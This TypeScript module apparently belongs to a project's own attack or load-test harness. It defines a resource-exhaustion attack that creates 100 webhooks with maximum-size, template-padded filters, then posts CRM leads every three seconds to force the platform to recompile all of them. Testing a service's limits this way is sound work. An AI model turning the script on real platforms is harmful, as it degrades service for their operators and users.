import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { createApi } from '../../services/api.ts';
import type { Attack } from '../attack.ts';
import { sendCounted } from '../clients/repeat.ts';

const webhooks = 100;
/** The largest size of a webhook's filter. */
const filterBytes = 16 * 1024;
const outputs = 500;
/**
 * Each event makes the platform compile all filters, because together they exceed the compiled bytes that an
 * organization may keep.
 */
const leadEveryMs = 3_000;

/** Webhooks with the largest filters. An event of a lead compiles all of them. */
export const compileFilters: Attack = {
  organizations: 1,
  async prepare(place, [token = '']) {
    const url = await startReceiver();
    const api = createApi(place.base, token);
    for (let index = 0; index < webhooks; index += 1) {
      await api('POST', '/webhooks', { url, event_type: 'lead.created', filter: largestFilter(String(index)) });
    }
    let leads = 0;
    return async (round) => {
      while (!round.signal.aborted) {
        leads += 1;
        const body = JSON.stringify({ email: `lead${leads}@example.com`, last_name: 'Loud' });
        await sendCounted(place, { method: 'POST', path: '/crm/leads', token, body }, round);
        await sleep(leadEveryMs, undefined, { signal: round.signal }).catch(() => undefined);
      }
    };
  },
};

function largestFilter(name: string) {
  const filterOf = (value: string) => ({
    match: 'all',
    conditions: [{ field: 'data.email', operator: 'equals', value }],
  });
  const room = filterBytes - JSON.stringify(filterOf(name)).length;
  const output = '{{ data.email | upcase }}';
  return filterOf(name + output.repeat(outputs).padEnd(room, '.'));
}

/** Starts a receiver. It gets the events about which a filter could not decide within its budget. */
async function startReceiver(): Promise<string> {
  const receiver = createServer((request, response) => {
    request.resume();
    response.end();
  });
  receiver.listen(0, '127.0.0.1');
  await once(receiver, 'listening');
  return `http://127.0.0.1:${(receiver.address() as AddressInfo).port}`; // the server listens on TCP
}
